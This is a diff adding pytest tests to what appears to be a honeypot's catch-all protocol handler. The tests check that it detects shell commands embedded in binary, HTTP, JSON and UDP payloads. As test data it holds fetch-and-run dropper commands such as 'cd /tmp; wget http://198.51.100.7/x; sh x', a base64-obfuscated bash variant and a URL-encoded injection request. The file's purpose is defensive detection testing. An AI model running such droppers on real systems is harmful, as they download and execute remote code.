@@ -7,10 +7,12 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from eudaemon.events.catalogue import ExploitRecognised, PayloadClassified
+from eudaemon.protocols import _plain as plain
 from eudaemon.protocols._base import HalfClosed
 from eudaemon.protocols._signatures import HEAD_BYTES, ROWS, looks_like
 from eudaemon.protocols.catchall import (
     DATAGRAMS_MAX,
+    DOORS,
     LINE_BYTES_MAX,
     LOOK_BYTES_MAX,
     LOOKS_MAX,
@@ -177,3 +179,81 @@ def test_what_is_too_large_for_an_exploit_is_looked_into_when_it_is_kept(past: i
     talk.say(b"\xde" * (LOOK_BYTES_MAX + past))
     talk.wait(3)
     assert len(talk.looks) == 1 - past
+
+
+COMMAND = b"cd /tmp; wget http://198.51.100.7/x; sh x"
+SPREAD = b"bash -c {echo,d2dldCBodHRwOi8vMTk4LjUxLjEwMC43L3g=}|{base64,-d}|{bash,-i}"
+IN_PLAIN_TEXT = {
+    "behind a length": b"\x80\0\0" + bytes((len(COMMAND),)) + COMMAND + b"txq",
+    "behind a length that is a letter, before a letter": b"\x99\0A" + COMMAND.ljust(0x41) + b"x\x01",
+    "between zeros": b"\0root\0root\0" + COMMAND + b"\0",
+    "in a request for a web server": b"GET /a?b=;cd+/tmp;wget%20http://198.51.100.7/x HTTP/1.0\r\n\r\n",
+    "in JSON": b'{"run": "' + COMMAND + b'"}',
+    "in a message that has no other text": b"\x82\xa3cmd\xd9" + bytes((len(COMMAND),)) + COMMAND,
+    "as Java executes it": b"\x01t\0" + bytes((len(SPREAD),)) + SPREAD + b"x",
+}
+
+
+@pytest.mark.parametrize("split", [0, 1])
+@pytest.mark.parametrize("how", IN_PLAIN_TEXT)
+def test_a_command_in_plain_text_is_found_and_run(how: str, split: int) -> None:
+    talk = Table(CatchAll(visit())).open()
+    talk.say(IN_PLAIN_TEXT[how], split)
+    talk.wait(3)
+    assert [wish.download.url for wish in talk.wishes] == ["http://198.51.100.7/x"]
+    talk.tell(HalfClosed(talk.at_s))
+    talk.answer("ok", b"#!/bin/sh\n")
+    talk.end()
+    found = [fact for fact in talk.facts if isinstance(fact, ExploitRecognised)]
+    assert [fact.name for fact in found] == ["command-in-plain-text"], "and once"
+    assert b"wget" in found[0].command.encode() or "base64" in found[0].command
+    assert [keep.data for keep in talk.kept if keep.origin == "payload"] == [IN_PLAIN_TEXT[how]]
+    assert talk.sent == b""
+
+
+@pytest.mark.parametrize("text", [
+    b"GET / HTTP/1.1\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n",
+    b"\x01\x02hello, this is sh and curl is a tool\0",
+    b"\x7fELF\1\1\1\0\0\0wget http://198.51.100.7/x\0",
+    b"#!/bin/sh\nwget http://198.51.100.7/x\n",
+])  # fmt: skip
+def test_what_only_reads_like_a_command_is_none(text: bytes) -> None:
+    talk = Table(CatchAll(visit())).open()
+    talk.say(text)
+    talk.wait(3)
+    talk.end()
+    assert not [fact for fact in talk.facts if isinstance(fact, ExploitRecognised)]
+
+
+def test_only_so_many_commands_of_a_payload_are_run() -> None:
+    for past in (0, 1):
+        talk = Table(CatchAll(visit())).open()
+        talk.say(b"".join(b"\1\0\x0fecho %08d|sh\0" % number for number in range(plain.COMMANDS_MAX + past)))
+        talk.wait(3)
+        talk.say(b"\1\2wget http://198.51.100.7/later\0")
+        talk.end()
+        assert len([fact for fact in talk.facts if isinstance(fact, ExploitRecognised)]) == plain.COMMANDS_MAX
+    far = b"\x99" * plain.LOOKED_BYTES_MAX
+    assert plain.commands(far[: -len(COMMAND)] + COMMAND) == [COMMAND]
+    assert plain.commands(far + COMMAND) == []
+    many = b"not a command\0" * plain.TEXTS_MAX
+    assert plain.commands(many[14:] + COMMAND) == [COMMAND]
+    assert plain.commands(many + COMMAND) == []
+    long = b"cd /tmp; wget http://198.51.100.7/x ".ljust(plain.COMMAND_BYTES_MAX + 1, b"a")
+    assert plain.commands(b"\0" + long) == [long[: plain.COMMAND_BYTES_MAX]]
+
+
+@pytest.mark.parametrize(("before", "name"), [(door[2], door[0]) for door in DOORS])
+def test_doors_that_take_commands_in_datagrams(before: bytes, name: str) -> None:
+    talk = Table(CatchAll(visit(transport="udp", port=53413))).open()
+    talk.say(before + COMMAND + b"\0")
+    assert [fact.command for fact in talk.facts if isinstance(fact, ExploitRecognised)] == [COMMAND.decode()]
+    assert [fact.name for fact in talk.facts if isinstance(fact, ExploitRecognised)] == [name]
+    assert [wish.download.url for wish in talk.wishes] == ["http://198.51.100.7/x"]
+    assert talk.sent == b""
+
+
+def test_a_command_somewhere_in_a_datagram() -> None:
+    talk = Table(CatchAll(visit(transport="udp", port=17185))).open()
+    talk.say(b"\1\2\0\x29" + COMMAND)
+    assert [wish.download.url for wish in talk.wishes] == ["http://198.51.100.7/x"]
